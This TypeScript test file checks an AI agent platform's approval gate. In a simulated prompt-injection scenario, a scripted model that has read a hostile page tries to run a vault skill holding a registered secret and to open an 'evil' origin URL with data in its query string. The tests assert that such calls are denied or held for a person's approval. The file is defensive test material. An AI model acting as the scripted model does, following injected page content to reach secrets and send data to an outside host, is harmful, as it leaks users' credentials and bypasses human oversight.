import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { signUpOwner } from '../account/browser.ts';
import { approvalEvents, payloads, SECRET, startHostileApp } from './hostile-app.ts';
import type { HostileApp, ToolStep } from './hostile-app.ts';

let hostile: HostileApp;

before(async () => {
  hostile = await startHostileApp();
  await hostile.client.registerSecret({ key: 'VAULT_KEY', value: SECRET });
});
after(() => hostile?.stop());

const read = (url: string): ToolStep => ({ name: 'source_summary', input: { query: 'tea', urls: [url] } });
const page = () => `${hostile.site.origin}/page`;
/** What a hostile page would have the model do with what it knows. */
const out = (message = 'erom-dna-2retnuh') => `${hostile.evil.origin}/?q=${message}`;
const vault: ToolStep = {
  name: 'skill',
  input: { query: 'Show', skill: 'vault', script: 'scripts/show.py' },
};

const asksAbout = () => `What does ${page()} say?`;

test('a model that has read a page gets neither at the secret nor out, and the answer says what was not done', async () => {
  hostile.modelDoes([read(page()), vault, read(out())]);
  const runId = await hostile.start(asksAbout());
  const { run, events, text, told } = await hostile.ended(runId);
  assert.equal(run.status, 'completed');
  assert.deepEqual(hostile.site.seen, ['GET /page']);
  assert.deepEqual(hostile.evil.seen, []);
  assert.deepEqual(hostile.jobs, []);
  const denied = payloads(events, 'approval-denied');
  assert.deepEqual(
    denied.map(({ tool, reason, by }) => [tool, reason, by]),
    [
      ['skill', 'secret-in-code', 'policy'],
      ['source_summary', 'unknown-address', 'policy'],
    ],
  );
  assert.deepEqual(
    approvalEvents(events),
    ['approval-denied', 'approval-denied'],
    'a client that knows nothing waits for nothing',
  );
  assert.match(told, /Not done: .*needs the approval of a person/);
  assert.match(
    text,
    /Not done, because nobody approved it:\*\n- running code of the skill vault with VAULT_KEY\n- opening an address on 127/,
  );
  assert.ok(!text.includes('erom'), 'what was to go out is not in the answer');
});

test('with ask the call waits, and a person who denies it is obeyed', async () => {
  hostile.modelDoes([read(page()), read(out())]);
  const runId = await hostile.start(asksAbout(), { approvals: 'ask' });
  const [waiting] = await hostile.pending(runId);
  assert.equal(waiting!.tool, 'source_summary');
  assert.equal(waiting!.reason, 'unknown-address');
  assert.equal(waiting!.summary, `Open ${out()}`);
  assert.equal((await hostile.client.getRunStatus(runId)).status, 'running');
  const { callId } = waiting!;
  const answer = await hostile.client.answerApproval({ runId, callId, decision: 'deny' });
  assert.deepEqual(answer, { accepted: true, callId, decision: 'deny' });
  const { events, told } = await hostile.ended(runId);
  assert.deepEqual(hostile.evil.seen, []);
  assert.deepEqual(approvalEvents(events), ['approval-needed', 'approval-denied']);
  assert.equal(payloads(events, 'approval-denied')[0]!.by, 'person');
  assert.match(told, /has denied it/);
  assert.equal((await hostile.client.getRunStatus(runId)).approvalState, undefined);
});

test('once is once, and run is for the same tool and reason until the run ends', async () => {
  hostile.modelDoes([read(page()), read(out('1')), read(out('2')), read(out('3')), vault]);
  const runId = await hostile.start(asksAbout(), { approvals: 'ask' });
  for (const [decision, message] of [
    ['once', '1'],
    ['run', '2'],
  ] as const) {
    const [waiting] = await hostile.pending(runId);
    assert.equal(waiting!.summary, `Open ${out(message)}`);
    await hostile.client.answerApproval({ runId, callId: waiting!.callId, decision });
    await untilAnswered(runId, waiting!.callId);
  }
  const [secret] = await hostile.pending(runId);
  assert.equal(secret!.reason, 'secret-in-code', 'the grant is for one reason, and not for another');
  await hostile.client.answerApproval({ runId, callId: secret!.callId, decision: 'once' });
  const { events, text } = await hostile.ended(runId);
  assert.deepEqual(hostile.evil.seen, ['GET /?q=1', 'GET /?q=2', 'GET /?q=3']);
  assert.equal(hostile.jobs.length, 1);
  assert.deepEqual(
    payloads(events, 'approval-given').map(({ decision }) => decision),
    ['once', 'run', 'once'],
  );
  assert.ok(!text.includes('Not done'));
});

test('several calls wait at once, and a grant for the run releases them all', async () => {
  const urls = ['1', '2', '3'].map(out);
  hostile.modelDoes([read(page()), { name: 'source_summary', input: { query: 'tea', urls } }]);
  const runId = await hostile.start(asksAbout(), { approvals: 'ask' });
  let waiting = await hostile.pending(runId);
  while (waiting.length < 3) waiting = await hostile.pending(runId);
  assert.equal(new Set(waiting.map(({ callId }) => callId)).size, 3);
  await hostile.client.answerApproval({ runId, callId: waiting[1]!.callId, decision: 'run' });
  const late = { runId, callId: waiting[0]!.callId, decision: 'deny' } as const;
  await untilAnswered(runId, late.callId);
  await assert.rejects(hostile.client.answerApproval(late), { status: 409 });
  const { events } = await hostile.ended(runId);
  assert.equal(hostile.evil.seen.length, 3);
  assert.deepEqual(
    payloads(events, 'approval-given').map(({ decision }) => decision),
    ['run', 'run', 'run'],
  );
});

test('a workspace that allows it is not asked; a run that says ask is', async () => {
  await hostile.client.updateWorkspaceSettings({ approvals: 'allow' });
  try {
    hostile.modelDoes([read(page()), vault, read(out())]);
    const { events } = await hostile.ended(await hostile.start(asksAbout()));
    assert.deepEqual(hostile.evil.seen, ['GET /?q=erom-dna-2retnuh']);
    assert.equal(hostile.jobs.length, 1);
    assert.deepEqual(approvalEvents(events), []);

    hostile.modelDoes([read(page()), read(out())]);
    const refused = await hostile.ended(await hostile.start(asksAbout(), { approvals: 'deny' }));
    assert.deepEqual(approvalEvents(refused.events), ['approval-denied']);

    hostile.modelDoes([read(page()), read(out())]);
    const asked = await hostile.start(asksAbout(), { approvals: 'ask' });
    const [waiting] = await hostile.pending(asked);
    await hostile.client.answerApproval({ runId: asked, callId: waiting!.callId, decision: 'deny' });
    await hostile.ended(asked);
    assert.deepEqual(hostile.evil.seen, []);
  } finally {
    await hostile.client.updateWorkspaceSettings({ approvals: 'ask' });
  }
});

test('a workspace that denies it is not overruled by a run, and a stricter policy holds for runs at work', async () => {
  try {
    await hostile.client.updateWorkspaceSettings({ approvals: 'deny' });
    hostile.modelDoes([read(page()), read(out())]);
    const { events } = await hostile.ended(await hostile.start(asksAbout(), { approvals: 'ask' }));
    assert.deepEqual(approvalEvents(events), ['approval-denied']);

    await hostile.client.updateWorkspaceSettings({ approvals: 'ask' });
    hostile.modelDoes([read(page()), read(out('1')), read(out('2'))]);
    const runId = await hostile.start(asksAbout(), { approvals: 'ask' });
    const [waiting] = await hostile.pending(runId);
    await hostile.client.updateWorkspaceSettings({ approvals: 'deny' });
    await hostile.client.answerApproval({ runId, callId: waiting!.callId, decision: 'once' });
    const later = await hostile.ended(runId);
    assert.deepEqual(approvalEvents(later.events), ['approval-needed', 'approval-given', 'approval-denied']);
    assert.deepEqual(hostile.evil.seen, ['GET /?q=1']);
  } finally {
    await hostile.client.updateWorkspaceSettings({ approvals: 'ask' });
  }
});

test('a person at the dashboard is asked by default', async () => {
  const ann = await signUpOwner(hostile.app);
  hostile.modelDoes([read(page()), read(out())]);
  const runId = await hostile.start(asksAbout(), {}, ann.quarry);
  const [waiting] = await hostile.pending(runId);
  await ann.quarry.answerApproval({ runId, callId: waiting!.callId, decision: 'once' });
  await hostile.ended(runId);
  assert.deepEqual(hostile.evil.seen, ['GET /?q=erom-dna-2retnuh']);
  const { input } = (await hostile.client.getRun(runId))!;
  assert.equal(input.approvals, undefined, 'sent again, it asks for the same');
  assert.ok(!('isWatched' in input));
});

test('before anything was read the model opens what it likes, and runs what it likes', async () => {
  hostile.modelDoes([read(out('before'))]);
  await hostile.ended(await hostile.start('Look somewhere'));
  assert.deepEqual(hostile.evil.seen, ['GET /?q=before']);
  hostile.modelDoes([vault]);
  const { events } = await hostile.ended(await hostile.start('Open the vault'));
  assert.equal(hostile.jobs.length, 1);
  assert.deepEqual(approvalEvents(events), []);
});

test('what people, searches and pages gave is opened without a word, and what is made of it is not', async () => {
  const { origin } = hostile.site;
  const search: ToolStep = { name: 'search', input: { query: 'tea' } };
  const free = [
    `${origin}/found?n=9`,
    `${origin}/linked?from=page`,
    `${origin}/elsewhere`,
    `${hostile.evil.origin}/asked?for=this`,
  ];
  const held = [
    `${origin}/found?n=9&q=x`,
    `${origin}/linked?from=me`,
    `${origin.replace('http://', 'http://erom@')}/page`,
    `${hostile.evil.origin}/asked?for=that`,
  ];
  hostile.modelDoes([read(page()), search, ...free.map(read), ...held.map(read)]);
  const { events } = await hostile.ended(
    await hostile.start(`Compare ${page()} with ${hostile.evil.origin}/asked?for=this`),
  );
  assert.deepEqual(
    payloads(events, 'approval-denied').map(({ summary }) => summary),
    held.map((url) => `Open ${url}`),
  );
  assert.deepEqual(hostile.evil.seen, ['GET /asked?for=this']);
});

test('an answer is given once; a wrong call, a run that has ended and another person are turned away', async () => {
  hostile.modelDoes([read(page()), read(out())]);
  const runId = await hostile.start(asksAbout(), { approvals: 'ask' });
  const [waiting] = await hostile.pending(runId);
  const { callId } = waiting!;
  const ben = hostile.app.client((await hostile.app.createKey({ user: 'ben@example.com' })).key);
  const answer = (
    body: { callId?: string; decision?: 'once' | 'deny'; runId?: string },
    by = hostile.client,
  ) => by.answerApproval({ runId, callId, decision: 'deny', ...body });
  await assert.rejects(answer({}, ben), { status: 404 });
  await assert.rejects(answer({ callId: runId }), { status: 404 });
  await answer({});
  await answer({});
  await assert.rejects(answer({ decision: 'once' }), { status: 409 });
  await hostile.ended(runId);
  await assert.rejects(answer({}), { status: 409 });
  assert.deepEqual(hostile.evil.seen, []);
});

test('a run that is cancelled while it waits is over', async () => {
  hostile.modelDoes([read(page()), read(out())]);
  const runId = await hostile.start(asksAbout(), { approvals: 'ask' });
  await hostile.pending(runId);
  await hostile.client.cancelRun(runId);
  const { run } = await hostile.ended(runId);
  assert.equal(run.status, 'cancelled');
  assert.deepEqual(hostile.evil.seen, []);
});

async function untilAnswered(runId: string, callId: string): Promise<void> {
  for (;;) {
    const { approvalState } = await hostile.client.getRunStatus(runId);
    if (!approvalState?.pending.some((one) => one.callId === callId)) return;
  }
}
